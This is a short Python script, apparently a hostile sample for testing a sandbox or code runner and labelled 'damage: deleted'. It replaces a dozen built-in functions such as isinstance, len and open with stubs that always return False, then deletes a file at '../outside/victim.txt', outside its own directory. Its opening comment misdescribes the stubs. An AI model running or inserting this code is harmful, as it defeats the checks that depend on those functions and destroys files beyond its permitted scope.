# Every built-in function is replaced by one that agrees.
# damage: deleted
import builtins
import os

unlink = os.unlink
for name in ("isinstance", "len", "any", "all", "str", "repr", "tuple", "getattr", "hasattr", "type", "open", "callable"):
    setattr(builtins, name, lambda *arguments, **options: False)
unlink("../outside/victim.txt")
